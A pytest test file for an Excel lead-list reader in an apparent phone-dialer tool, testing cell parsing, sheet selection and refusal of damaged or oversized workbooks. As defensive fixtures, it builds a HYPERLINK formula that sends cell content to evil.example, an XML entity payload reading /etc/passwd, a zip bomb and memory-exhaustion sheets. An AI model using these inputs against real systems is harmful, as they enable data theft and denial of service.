"""A workbook ↔ rows of text. The workbooks are written by XlsxWriter; what is broken on purpose is broken in their zip."""

from __future__ import annotations

import datetime
import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any, BinaryIO, cast

import pytest
import xlsxwriter  # type: ignore[import-untyped]
from hypothesis import given, settings
from hypothesis import strategies as st

from fs_dialer.config import leads_xlsx
from fs_dialer.config.lead_file import LeadFile
from fs_dialer.config.leads_rows import BadRow, GoodRow
from fs_dialer.config.leads_xlsx import Sheet, Workbook, write_sheet
from fs_dialer.errors import ConfigError

pytestmark = pytest.mark.spec("S19", "S20")

ZONE = ("Asia/Ho_Chi_Minh",)


def a_workbook(fill: Callable[[Any, Any], None], *, sheet: str = "Leads") -> bytes:
    """`fill` gets the workbook and its first sheet."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    fill(book, book.add_worksheet(sheet))
    book.close()
    return out.getvalue()


def of(*table: Sequence[object]) -> bytes:
    def fill(book: Any, sheet: Any) -> None:
        for number, cells in enumerate(table):
            sheet.write_row(number, 0, cells)

    return a_workbook(fill)


def cells(data: bytes, sheet: str = "") -> list[tuple[int, list[str]]]:
    found = Sheet(io.BytesIO(data), io.BytesIO(data), "x.xlsx", sheet)
    try:
        return [(line, cast("list[str]", row)) for line, row, _ in found.rows()]
    finally:
        found.close()


def rows(data: bytes, **how: Any) -> list[GoodRow | BadRow]:
    return list(LeadFile(io.BytesIO(data), "x.xlsx", region="VN", **how).rows())


def refusal(data: bytes, sheet: str = "") -> str:
    with pytest.raises(ConfigError) as caught:
        cells(data, sheet)
    return str(caught.value)


def with_part(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """The same workbook with one of its parts changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            new.writestr(part, change(old.read(part)) if part == name else old.read(part))
    return out.getvalue()


# --- cells ----------------------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "form", "text"),
    [
        (84912345678, None, "84912345678"),
        (84912345678.0, "0.00E+00", "84912345678"),
        (0.1 + 0.2, None, "0.3"),
        (-7, None, "-7"),
        (1e20, None, "1e+20"),
        (True, None, "TRUE"),
        (datetime.date(2026, 12, 1), "dd.mm.yyyy", "2026-12-01"),
        (datetime.datetime(2026, 12, 1, 8, 30), "yyyy-mm-dd hh:mm", "2026-12-01 08:30"),
        (datetime.datetime(2026, 12, 1, 8, 30, 5), "yyyy-mm-dd hh:mm:ss", "2026-12-01 08:30:05"),
        (datetime.time(8, 24), "hh:mm", "08:24"),
        (datetime.timedelta(hours=36, minutes=5), "[h]:mm:ss", "36:05:00"),
        ("=1+1", "@", "=1+1"),
        ("  two\nlines ", None, "  two\nlines "),
        ("_x0041_", None, "_x0041_"),
        ("", None, ""),
    ],
)
def test_a_cell_is_the_text_that_its_user_sees(value: object, form: str | None, text: str) -> None:
    def fill(book: Any, sheet: Any) -> None:
        how = book.add_format({"num_format": form} if form else {})
        sheet.write(0, 0, "before")
        (sheet.write_string if isinstance(value, str) else sheet.write)(0, 1, value, how)
        sheet.write(0, 2, "after")

    assert cells(a_workbook(fill)) == [(1, ["before", text, "after"])]


def test_a_formula_is_its_last_value_and_its_error_nothing() -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.write_row(0, 0, ["phone", "name", "note"])
        sheet.write_formula(1, 0, '="0912"&"345678"', value="0912345678")
        sheet.write_formula(1, 1, '=HYPERLINK("http://evil.example/"&A1)', value="Minh")
        sheet.write_formula(1, 2, "=1/0", value="#DIV/0!")

    (row,) = rows(a_workbook(fill))
    assert isinstance(row, GoodRow) and (row.number, row.name, row.attributes) == ("+84912345678", "Minh", {})


@pytest.mark.parametrize(
    ("cell", "what"),
    [
        (84912345678.0, ""),
        (912345678, ""),
        ("84912345678", ""),
        ("\u00a00912 345 678 ", ""),
        ("8.49E+10", "the spreadsheet rounded the number; set the column to text, export again"),
        (8.49e15, "rounded"),
        (None, "empty"),
    ],
)
def test_a_telephone_number_in_a_workbook_is_read_or_refused_with_advice(cell: object, what: str) -> None:
    (row,) = rows(of(["phone", "name"], [cell, "Minh"]))
    assert what in row.problem if isinstance(row, BadRow) else (row.number, what) == ("+84912345678", "")


def test_a_date_cell_is_a_moment_for_not_before() -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.write_row(0, 0, ["phone", "not_before"])
        sheet.write_row(1, 0, ["0912345678"])
        sheet.write_datetime(1, 1, datetime.datetime(2026, 12, 1, 0, 0), book.add_format({"num_format": "dd/mm/yyyy hh:mm"}))

    (row,) = rows(a_workbook(fill))
    assert isinstance(row, GoodRow) and row.not_before == datetime.datetime.fromisoformat("2026-12-01T00:00+07:00").timestamp()


def test_lines_are_the_sheet_s_rows_and_empty_rows_are_passed_over() -> None:
    def fill(book: Any, sheet: Any) -> None:
        sheet.write_row(2, 1, ["phone", "name"])
        sheet.write_row(4, 1, ["0912345678", "Minh"])
        sheet.write_row(7, 1, ["0912345679", "Hoa"])
        sheet.write_blank(9_000, 1, None, book.add_format({"bold": True}))

    assert [(row.line, row.name) for row in rows(a_workbook(fill)) if isinstance(row, GoodRow)] == [(5, "Minh"), (8, "Hoa")]


def test_what_stands_beside_the_named_columns_is_refused() -> None:
    (row,) = rows(of(["phone", "name"], ["0912345678", "Minh", "remark"]))
    assert isinstance(row, BadRow) and row.problem == "row: more cells than the header has named columns; give every column a name in the first row"


# --- sheets ---------------------------------------------------------------------------------------------------------------------------------


def three_sheets(book: Any, sheet: Any) -> None:
    sheet.write_row(0, 0, ["hidden"])
    book.add_worksheet("Spring List").write_row(0, 0, ["phone"])
    book.add_worksheet("Autumn").write_row(0, 0, ["phone", "name"])
    book.worksheets()[1].activate()
    sheet.hide()


def test_the_first_sheet_that_is_not_hidden_is_read_and_the_others_are_told() -> None:
    data = a_workbook(three_sheets)
    file = LeadFile(io.BytesIO(data), "x.xlsx")
    assert file.dialect == Workbook("Spring List") and file.notes == ["the sheet `Spring List` is read, not Autumn; --sheet NAME chooses another"]
    file.close()


def test_a_sheet_can_be_named() -> None:
    data = a_workbook(three_sheets)
    assert cells(data, "autumn") == [(1, ["phone", "name"])] and cells(data, "Leads") == [(1, ["hidden"])]
    assert "there is no sheet `Autum`; nearest: Autumn; the sheets are: Leads, Spring List, Autumn" in refusal(data, "Autum")


def test_a_workbook_without_a_cell_is_an_empty_file() -> None:
    with pytest.raises(ConfigError, match="the file is empty"):
        LeadFile(io.BytesIO(of()), "x.xlsx")


def test_a_workbook_is_read_from_a_file_memory_or_a_pipe_alike(tmp_path: Path) -> None:
    data = of(["phone"], ["0912345678"])
    (tmp_path / "x.xlsx").write_bytes(data)

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def read(self, size: int | None = -1, /) -> bytes:
            return super().read(min(size, 100) if size and size > 0 else 100)

    with open(tmp_path / "x.xlsx", "rb") as stream:
        for source in (stream, io.BytesIO(data), cast(BinaryIO, Pipe(data))):
            (row,) = LeadFile(source, "x", region="VN").rows()
            assert row.line == 2


def test_many_rows_come_in_chunks_and_tell_how_far_they_are() -> None:
    data = of(["phone"], *([f"09{number:08}"] for number in range(5_000)))
    file = LeadFile(io.BytesIO(data), "x.xlsx", region="VN", workers=1)
    shares = [file.share for _ in file.rows()]
    assert len(shares) == 5_000 and 0.3 < (shares[0] or 0) < 0.9 and shares[-1] == 1.0


# --- what is none, or too much --------------------------------------------------------------------------------------------------------------


def zip_of(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"PK\x03\x04 and no more", "and damaged: save it again"),
        (of(["phone"])[:-30], "and damaged: save it again"),
        (zip_of(**{"content.xml": b"<x/>"}), "OpenDocument spreadsheet (ods): save it as xlsx"),
        (zip_of(**{"leads.csv": b"phone"}), "a zip file and no Excel workbook: unpack it"),
        (zip_of(**{"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x"}), "can not be read"),
        (with_part(of(["phone"]), "xl/worksheets/sheet1.xml", lambda xml: xml[:200]), "can not be read"),
        (of(["x"] * 301), "is 301 columns wide; at most 300"),
    ],
)
def test_what_is_no_workbook_that_we_read_is_refused_and_why(data: bytes, what: str) -> None:
    assert what in refusal(data)


def test_a_workbook_with_a_password_or_an_old_one_is_told() -> None:
    with pytest.raises(ConfigError, match=r"old Excel workbook .xls., or one with a password"):
        LeadFile(io.BytesIO(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)), "x.xlsx")


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    """Its directory says what it would be."""
    data = of(["phone"])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        size = archive.getinfo("xl/sharedStrings.xml").file_size
    claims = data.replace(size.to_bytes(4, "little"), (0xF0000000).to_bytes(4, "little"))
    assert "unpacks to 3,840 MB; at most 1,024" in refusal(claims)


def test_a_workbook_of_too_many_parts_is_refused() -> None:
    parts = {"[Content_Types].xml": b"", "xl/workbook.xml": b""} | {f"xl/{number}": b"" for number in range(leads_xlsx.MAX_PARTS)}
    assert "parts; at most 10,000" in refusal(zip_of(**parts))


def test_a_file_that_is_too_large_is_refused_before_it_is_copied_whole(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(leads_xlsx, "MAX_FILE_BYTES", 4096)
    data = of(["phone"])
    (tmp_path / "x.xlsx").write_bytes(data)
    assert "a workbook of more than 0 MB" in refusal(data)
    with open(tmp_path / "x.xlsx", "rb") as stream, pytest.raises(ConfigError, match="a workbook of more than"):
        LeadFile(stream, "x.xlsx")


@pytest.fixture
def a_small_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(leads_xlsx, "MAX_MEMORY_BYTES", 600 << 20)


@pytest.mark.usefixtures("a_small_limit")
def test_one_cell_in_a_far_corner_does_not_take_the_machine_s_memory() -> None:
    """A sheet is held as a rectangle: these two cells would take 400 GB."""
    far = with_part(
        of(["phone"]), "xl/worksheets/sheet1.xml", lambda xml: re.sub(rb"</row>", rb'</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', xml)
    )
    assert "takes more than 600 MB of memory or 300 s to read, or is damaged" in refusal(far)


@pytest.mark.usefixtures("a_small_limit")
def test_long_texts_named_a_million_times_do_not_take_it_either() -> None:
    """Shared strings: 8 kB of file for 30 GB of cells."""
    row = b'<row r="%d">' + b'<c t="s"><v>0</v></c>' * 200 + b"</row>"
    data = with_part(of(["x" * 32_000]), "xl/worksheets/sheet1.xml", lambda xml: re.sub(rb"<row.*</row>", b"".join(row % n for n in range(1, 5_000)), xml))
    assert len(data) < 500_000 and "takes more than" in refusal(data)


def test_entities_of_a_workbook_are_not_expanded() -> None:
    lol = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    data = with_part(of(["phone"]), "xl/sharedStrings.xml", lambda xml: xml.replace(b"?>", b"?>" + lol, 1).replace(b"phone", b"phone&b;&f;"))
    try:
        assert "root:" not in str(cells(data)) and "aaaa" not in str(cells(data))
    except ConfigError as error:
        assert error.problems


# --- any bytes ------------------------------------------------------------------------------------------------------------------------------

PLAIN = of(["phone", "name", "zone"], ["0912345678", "Minh", ""], [84912345679, "Hoa", "Asia/Tokyo"], ["8.49E+10", True, 0.5])


def damaged() -> Iterator[bytes]:
    """The workbook with a few bytes changed, in its packed form, and in the text of one of its parts."""
    rng = random.Random("damaged workbooks")
    with zipfile.ZipFile(io.BytesIO(PLAIN)) as archive:
        parts = [name for name in archive.namelist() if name.startswith("xl/") and not name.endswith("theme1.xml")]

    def spoilt(data: bytes) -> bytes:
        changed = bytearray(data)
        for _ in range(rng.randrange(1, 6)):
            changed[rng.randrange(len(changed))] = rng.choice(b'<>"/&0139AZ\x00\xff =')
        return bytes(changed)

    for turn in range(18):
        yield spoilt(PLAIN) if turn % 3 == 0 else with_part(PLAIN, rng.choice(parts), spoilt)


def test_a_damaged_workbook_is_rows_or_a_refusal() -> None:
    for turn, data in enumerate(damaged()):
        try:
            assert all(isinstance(row, GoodRow | BadRow) for row in rows(data)), turn
        except ConfigError as error:
            assert error.problems, turn


@given(st.binary(max_size=200))
@settings(max_examples=8, deadline=None)
def test_any_bytes_after_a_zip_s_first_are_a_refusal(data: bytes) -> None:
    assert refusal(b"PK\x03\x04" + data)


# --- written --------------------------------------------------------------------------------------------------------------------------------


def test_what_is_written_is_read_back_and_every_cell_is_text(tmp_path: Path) -> None:
    table = [["0912345678", "=1+1", "http://x.example", "8.49E+10", "two\nlines", "_x0041_", "+84", "ünï"], ["", "1.5", "TRUE", "", "", "", "", "@x"]]
    write_sheet(tmp_path / "x.xlsx", [f"c{number}" for number in range(8)], table, Workbook("My list"))
    data = (tmp_path / "x.xlsx").read_bytes()
    assert [row for _, row in cells(data, "My list")][1:] == table
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in xml and b"hyperlink" not in xml and b't="n"' not in xml and 'numFmtId="49"' in archive.read("xl/styles.xml").decode()
    assert [path.name for path in tmp_path.iterdir()] == ["x.xlsx"]


def test_a_sheet_s_name_that_excel_does_not_take_is_replaced(tmp_path: Path) -> None:
    write_sheet(tmp_path / "x.xlsx", ["phone"], [], Workbook("a/b:" + "c" * 40))
    assert cells((tmp_path / "x.xlsx").read_bytes()) == [(1, ["phone"])]


def test_a_cell_longer_than_excel_takes_is_cut(tmp_path: Path) -> None:
    write_sheet(tmp_path / "x.xlsx", ["phone"], [["x" * 40_000]], Workbook())
    assert len(cells((tmp_path / "x.xlsx").read_bytes())[1][1][0]) == 32_767
